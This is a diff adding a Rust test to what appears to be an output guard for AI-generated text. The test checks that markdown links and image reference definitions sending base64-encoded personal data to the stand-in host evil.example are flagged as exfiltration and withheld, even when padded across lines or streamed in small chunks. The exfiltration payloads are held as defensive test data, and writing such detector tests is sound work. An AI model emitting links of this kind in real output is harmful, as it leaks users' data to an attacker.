@@ -598,3 +598,50 @@ fn padding_around_an_injection_does_not_hide_it() {
         assert_eq!(decision, Decision::Block, "{score}: {:.60}", text);
     }
 }
+
+/// Bound: the stream's hold-back of plain link text (the line of its `[`) and of a
+/// reference definition. A link whose text is padded across lines past the look-behind
+/// (256 bytes) and definitions whose destination or title run past the hold-back: a
+/// stream never lets the data URL out, and flags it as the whole text does.
+#[test]
+fn links_and_definitions_padded_past_the_hold_back_are_flagged_streamed() {
+    let g = Guard::new(Policy::default()).unwrap();
+    let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
+    let pad = "word ".repeat(20);
+    let lines = format!("{pad}\n{pad}\n{pad}\n{pad}");
+    for text in [
+        format!("see [click\n{lines}\nhere](https://evil.example/?d={data}) end"),
+        format!("see [click {pad}{pad}{pad}{pad} here](https://evil.example/?d={data}) end"),
+        format!(
+            "![x][r]\n\n[r]:\n{}https://evil.example/x.png?d={data}\n  \"t\" \nend",
+            " ".repeat(300)
+        ),
+        format!(
+            "![x][r]\n\n[r]: https://evil.example/x.png?d={data}\n  \"{pad}{pad}{pad}{pad}\"\nend"
+        ),
+        format!("[r]: https://evil.example/x.png?d={data}\n  '{lines}'\n\n![x][r] end"),
+    ] {
+        let whole = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert!(!whole.text.contains(data), "{text:.60}: {}", whole.text);
+        for size in [1, 7, 64, 500] {
+            let (out, entities) = streamed(&g, &text, size);
+            assert!(!out.contains(data), "{text:.60}, chunks of {size}: {out}");
+            assert!(
+                entities.iter().any(|e| e.ends_with("_EXFILTRATION")),
+                "{text:.60}, chunks of {size}: {entities:?}"
+            );
+        }
+    }
+    // A tail in code is no link; plain prose with brackets is untouched.
+    for text in [
+        format!("`x](https://evil.example/?d={data})`"),
+        "an array [1, 2] and (3) here".to_owned(),
+    ] {
+        let whole = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert_eq!(whole.text, text);
+    }
+}
